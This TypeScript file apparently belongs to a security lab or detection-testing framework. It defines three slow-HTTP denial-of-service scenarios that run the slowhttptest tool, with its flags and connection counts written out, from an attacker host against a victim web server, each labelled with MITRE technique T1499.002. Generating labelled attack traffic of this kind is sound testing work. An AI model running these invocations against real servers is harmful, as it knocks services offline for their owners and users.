import type { Scenario } from '../scenario.js';

function slow(kind: string, summary: string, flags: readonly string[], path = '/index.html'): Scenario {
  return {
    name: `slow-${kind}`,
    summary: `slowhttptest: ${summary}`,
    kind: 'attack',
    services: ['web'],
    run: async (context) => {
      const [source = ''] = context.attackers();
      context.useSource('attacker', source);
      const connections = context.at({ slow: '50', normal: '150', fast: '400' });
      const size = ['-c', connections, '-r', '50', '-l', String(context.seconds)];
      const args = [...flags, ...size, '-u', `http://${context.victim.ip4}${path}`];
      const facts = { label: 'slow_http', technique: 'T1499.002', sources: [source], targets: [context.victim.ip4] };
      await context.attack(facts, 'attacker', 'slowhttptest', args);
    },
  };
}

/** Connections that are kept busy with as little as possible. */
export const slowHttps: readonly Scenario[] = [
  slow('headers', 'headers that never end', ['-H', '-i', '5']),
  slow('body', 'a body that comes a few bytes at a time', ['-B', '-i', '5', '-s', '8192'], '/app/upload'),
  slow(
    'read',
    'an answer that is hardly read',
    ['-X', '-w', '1', '-y', '2', '-n', '3', '-z', '4', '-k', '3'],
    '/app.js',
  ),
];
